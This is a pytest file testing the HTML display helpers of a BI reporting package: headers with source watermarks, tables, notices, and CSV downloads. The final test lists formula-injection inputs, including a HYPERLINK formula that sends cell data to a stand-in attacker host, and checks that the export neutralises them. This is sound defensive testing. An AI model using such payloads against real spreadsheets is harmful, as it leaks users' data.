"""The display helpers every report notebook calls: header, tables (labels, units, CSV), contents, notices."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from datetime import UTC, date, datetime
from urllib.parse import unquote

import pandas as pd
import pytest

from statex_bi import display, reads, warehouse
from statex_bi.display import Column
from statex_bi.ingest import record_watermark
from statex_bi.periods import Period
from statex_bi.sources.contract import SourceSpec

PERIOD = Period(date(2026, 10, 5), date(2026, 10, 11))
GENERATED = datetime(2026, 10, 12, 6, 30, tzinfo=UTC)


SHOP = SourceSpec("shop", lambda request: [], "SELECT max(created) FROM raw_shop.orders")


@pytest.fixture
def shown(monkeypatch) -> list[str]:
    """The HTML each helper displays, in order."""
    captured: list[str] = []
    monkeypatch.setattr(display, "_display_html", captured.append)
    return captured


def _text(markup: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", markup)).strip()


def _read(frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` as a KPI function returns it: saying what it was read from (display.table refuses it otherwise)."""
    return reads.stamp(frame, reads.Reads({"marts.orders"}))


def test_header_of_an_empty_warehouse_says_nothing_is_loaded(db_file):
    with warehouse.writer(db_file):
        pass
    con = display.open_warehouse()
    params = {"period_start": "2026-10-05", "period_end": "2026-10-11", "run_id": "r-1", "freshness_hours": 48}
    markup = display.header_html("Data health", PERIOD, params, con, GENERATED)
    text = _text(markup)
    assert "Data health" in text
    assert "Mon 05 Oct 2026 – Sun 11 Oct 2026 (7 days)" in text
    assert "generated 2026-10-12 06:30 UTC" in text
    assert "run_id r-1" in text and "freshness_hours 48" in text
    assert "period_start" not in text  # shown as the period instead
    assert "No source is loaded yet" in text and "statex-bi demo" in text
    assert "simulated demo data" not in text
    assert markup.startswith("<style>")


def test_header_shows_each_sources_watermark_and_the_demo_badge(db_file):
    created = [datetime(2026, 10, 9, 17, 45), datetime(2026, 10, 11, 22, 5), datetime(2026, 10, 1, 8, 0)]
    with warehouse.writer(db_file) as con:
        con.execute("CREATE SCHEMA raw_shop")
        con.execute("CREATE TABLE raw_shop.orders (id INTEGER, created TIMESTAMP)")
        con.executemany("INSERT INTO raw_shop.orders VALUES (?, ?)", list(enumerate(created)))
        con.execute("INSERT INTO ops.warehouse_info VALUES ('kind', 'demo')")
        record_watermark(con, SHOP)  # what every ingest does after loading a source
    con = display.open_warehouse()
    text = _text(display.header_html("Weekly <review>", PERIOD, {"key_events": ["sign_up", "a<b"]}, con, GENERATED))
    assert f"shop {max(created):%Y-%m-%d %H:%M}" in text
    assert "simulated demo data" in text
    assert "key_events sign_up, a&lt;b" in text
    assert "Weekly &lt;review&gt;" in text


def test_table_formats_aligns_numbers_and_blanks_missing_values(shown):
    frame = pd.DataFrame(
        {"source": ["stripe", "paypal"], "rows": [1200, 3], "share": [0.25, None], "at": [pd.NaT, pd.Timestamp(0)]}
    )
    display.table(_read(frame), {"source": "Source", "rows": Column("Rows", "count"),
                                 "share": Column("Share", "fraction", 0),
                                 "at": Column("Day", "date")}, caption="Sources <all>")
    markup = shown[-1]
    assert "<caption>Sources &lt;all&gt;</caption>" in markup
    cells = re.findall(r"<td( class=\"num\")?>([^<]*)</td>", markup)
    assert cells == [
        ("", "stripe"), (' class="num"', "1,200"), (' class="num"', "25%"), ("", ""),
        ("", "paypal"), (' class="num"', "3"), (' class="num"', ""), ("", "1970-01-01"),
    ]


def test_contents_and_method_notes_are_collapsed_blocks(shown):
    display.toc()
    display.how_computed("Definitions: `statex_bi/kpis/data_health.py`.\n\n- one\n- **two**")
    toc, how = shown
    assert 'data-statex-toc' in toc and "<ol></ol>" in toc
    assert how.startswith('<details class="statex-how"><summary>How this is computed</summary>')
    assert "<code>statex_bi/kpis/data_health.py</code>" in how and "<li><strong>two</strong></li>" in how


def test_an_empty_table_is_a_sentence(shown):
    display.table(_read(pd.DataFrame({"a": []})), caption="Quarantine", empty="No record is quarantined.")
    assert _text(shown[-1]) == "Quarantine : No record is quarantined."
    assert "<table" not in shown[-1]


def test_notices_escape_text_and_render_backticks_as_code(shown):
    display.notice("Nothing is loaded yet.\n\nRun `statex-bi demo` <now>.", warning=True)
    display.headline("Revenue rose 5% in `raw_stripe`")
    notice, headline = shown
    assert 'class="statex-notice statex-warning"' in notice
    assert notice.count("<p>") == 2
    assert "<code>statex-bi demo</code> &lt;now&gt;" in notice
    assert "<code>raw_stripe</code>" in headline


def test_open_warehouse_without_a_file_can_stand_in_an_empty_database(db_file):
    con = display.open_warehouse(missing_ok=True)
    assert con.execute("SELECT count(*) FROM information_schema.tables WHERE table_schema LIKE 'raw_%'").fetchall() == [
        (0,)
    ]
    assert not db_file.exists()


def test_a_report_kernel_imports_no_connector_to_show_its_header():
    """The header reads watermarks from ops.source_watermarks: a kernel never pays for the connectors."""
    code = ("import sys; from statex_bi import charts, display, publish, lab; "
            "from statex_bi.kpis import ai_costs, data_health, executive_summary, growth_revenue, "
            "infrastructure_savings, test_productivity, web_api_performance; "
            "print(sorted(m for m in sys.modules if m.startswith(('statex_bi.sources', 'statex_bi.ingest', 'dlt'))))")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "[]"


def test_csv_download_neutralises_formula_cells_and_says_so(shown):
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)", "+1+2", "-2+3", "\tcmd", "plain"]
    frame = pd.DataFrame({"name": hostile, "delta": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0]})
    display.table(_read(frame), {"name": "Name", "delta": Column("Delta", "count")}, caption="Tests")
    markup = shown[-1]
    href = re.search(r'href="data:text/csv;charset=utf-8,([^"]*)"', markup).group(1)
    rows = list(csv.reader(io.StringIO(unquote(href))))
    assert [row[0] for row in rows[1:]] == ["'" + cell for cell in hostile[:5]] + ["plain"]
    assert [row[1] for row in rows[1:]] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0"]  # numbers stay numbers
    assert "5 text cells starting with =, +, -, @" in _text(markup)
